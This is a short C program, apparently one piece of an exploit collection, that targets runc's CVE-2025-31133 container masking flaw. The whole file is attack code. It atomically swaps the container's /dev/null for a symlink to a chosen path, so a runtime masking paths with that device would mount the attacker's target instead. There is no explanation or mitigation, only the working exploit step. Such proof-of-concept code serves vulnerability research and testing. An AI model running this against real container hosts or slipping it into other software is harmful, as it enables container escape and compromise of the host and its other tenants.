/* SPDX-License-Identifier: Apache-2.0 */
/* Puts a link in the place of a device, for a runtime that masks a path with the container's own /dev/null (runc's CVE-2025-31133). */
#include "../attack.h"

int main(int argc, char **argv) {
  const char *folder = argument(argc, argv, 1), *to = argument(argc, argv, 2);
  char device[256], link[256];
  snprintf(device, sizeof device, "%s/null", folder);
  snprintf(link, sizeof link, "%s/link", folder);
  unlink(link);
  step(symlink(to, link), "making a link beside it");
  int failed = rename(link, device), error = errno;
  unlink(link);
  errno = error;
  step(failed, "renaming the link to it");
  worked("%s is a link to %s", device, to);
}
